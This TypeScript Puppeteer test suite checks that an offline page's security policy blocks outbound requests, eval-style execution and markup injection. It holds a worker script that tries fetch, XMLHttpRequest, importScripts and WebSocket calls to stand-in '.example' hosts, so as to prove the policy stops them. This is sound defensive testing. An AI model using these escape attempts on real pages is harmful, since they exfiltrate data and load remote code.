import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import type { Page } from "puppeteer-core";
import { FAULTS } from "../doctor/support/faults.ts";
import { terminalText } from "../doctor/support/terminal-text.ts";
import { MARKUP, RUNNING, SENDING } from "./support/attempts.ts";
import { paste } from "./support/doctor-page.ts";
import { inEachBrowser, type OfflineBrowser, openFile } from "./support/offline-browser.ts";
import { withoutPolicy, withWorkerScript } from "./support/patched-page.ts";

const [FAULT = assert.fail()] = FAULTS;

/**
 * Makes an attempt as a script of the page would, waits for what comes of it, and tells what it threw. What a debugger calls may
 * use `eval` whatever the policy says; what a timer calls may not.
 */
async function attempt(page: Page, action: () => unknown): Promise<string> {
  const thrown = await page.evaluate(`new Promise((resolve) => {
    Reflect.deleteProperty(globalThis, "ran");
    setTimeout(async () => {
      try { await (${action})(); resolve(""); } catch (error) { resolve(String(error)); }
    });
  })`);
  await new Promise((resolve) => setTimeout(resolve, 100));
  return String(thrown);
}

/** Waits, as long as may be, until a server of this word was asked for. */
async function askedFor({ asked }: OfflineBrowser, word: string): Promise<boolean> {
  for (let tries = 0; tries < 2400 && !asked.some((url) => url.includes(word)); tries++)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return asked.some((url) => url.includes(word));
}

function hostIn(action: () => unknown): string {
  return (
    /(\w+)\.example|"(import)"/
      .exec(String(action))
      ?.slice(1)
      .find((word) => word !== undefined) ?? ""
  );
}

function copyOf({ folder, pageFile }: OfflineBrowser, name: string, edit: (html: string) => string): string {
  const file = path.join(folder, name);
  fs.writeFileSync(file, edit(fs.readFileSync(pageFile, "utf8")));
  return file;
}

/** Tries to get out of the worker, and then does what it is for. */
const ASKING_WORKER = `{
  const judge = self.onmessage;
  self.onmessage = async (event) => {
    await fetch("http://worker-fetch.example/").catch(() => undefined);
    try { new XMLHttpRequest().open("GET", "http://worker-xhr.example/"); } catch {}
    try { importScripts("http://worker-import.example/"); } catch {}
    try { new WebSocket("ws://worker-socket.example/"); } catch {}
    judge(event);
  };
}`;

inEachBrowser("the page on its own", (opened) => {
  let page: Page;
  const requests: string[] = [];
  before(async () => {
    page = await opened().browser.newPage();
    page.on("request", (request) => requests.push(request.url()));
    await page.goto(`file://${opened().pageFile}`);
  });

  it("asks for nothing but its own file", async () => {
    const { causes } = await paste(page, terminalText(FAULT.bundle));
    assert.notEqual(causes.length, 0);
    const own = [`file://${opened().pageFile}`, "blob:", "data:"];
    assert.deepEqual(
      requests.filter((url) => !own.some((address) => url.startsWith(address))),
      [],
    );
    assert.deepEqual(
      opened().asked.filter((url) => url.includes(".example")),
      [],
    );
  });

  for (const [name, action] of Object.entries(SENDING))
    it(`reaches nobody by ${name}`, async () => {
      await attempt(page, action);
      assert.equal(
        opened()
          .asked.join("\n")
          .includes(`${hostIn(action)}.example`),
        false,
      );
    });

  for (const [name, action] of Object.entries(RUNNING))
    it(`runs no text as code by ${name}`, async () => {
      await attempt(page, action);
      assert.equal(await page.evaluate(() => Reflect.get(globalThis, "ran")), undefined);
    });

  for (const [name, action] of Object.entries(MARKUP))
    it(`makes no element of a text by ${name}`, async () => {
      const hasTypes = await page.evaluate(() => "trustedTypes" in globalThis);
      assert.ok(hasTypes, "a browser without Trusted Types proves nothing here");
      assert.match(await attempt(page, action), /TypeError/);
      assert.equal(await page.evaluate(() => document.getElementById("made")), null);
    });

  it("has reached nobody when all that is over", () => {
    assert.deepEqual(
      opened().asked.filter((url) => url.includes(".example")),
      [],
    );
  });
});

inEachBrowser("its worker", (opened) => {
  it("reaches nobody either", async () => {
    const { page } = await openFile(
      opened(),
      copyOf(opened(), "asking.html", (html) => withWorkerScript(html, ASKING_WORKER)),
    );
    const { causes } = await paste(page, terminalText(FAULT.bundle));
    assert.notEqual(causes.length, 0);
    assert.doesNotMatch(opened().asked.join("\n"), /worker-/);
  });

  it("would, were it not for the policy", async () => {
    const { page } = await openFile(
      opened(),
      copyOf(opened(), "asking.html", (html) => withoutPolicy(withWorkerScript(html, ASKING_WORKER))),
    );
    await paste(page, terminalText(FAULT.bundle));
    assert.ok(await askedFor(opened(), "worker-fetch"));
    assert.ok(await askedFor(opened(), "worker-import"));
  });
});

inEachBrowser("the same page without its policy", (opened) => {
  let page: Page;
  before(async () => {
    ({ page } = await openFile(opened(), copyOf(opened(), "open.html", withoutPolicy)));
  });

  for (const [name, action] of Object.entries(SENDING))
    it(`would ask by ${name}`, async () => {
      await attempt(page, action);
      assert.ok(await askedFor(opened(), hostIn(action)), opened().asked.join("\n"));
    });

  for (const [name, action] of Object.entries(RUNNING))
    it(`would run a text by ${name}`, async () => {
      await attempt(page, action);
      const hasRun = () => page.evaluate(() => Reflect.get(globalThis, "ran") === true);
      for (let tries = 0; tries < 2400 && !(await hasRun()); tries++)
        await new Promise((resolve) => setTimeout(resolve, 50));
      assert.ok(await hasRun());
    });
});
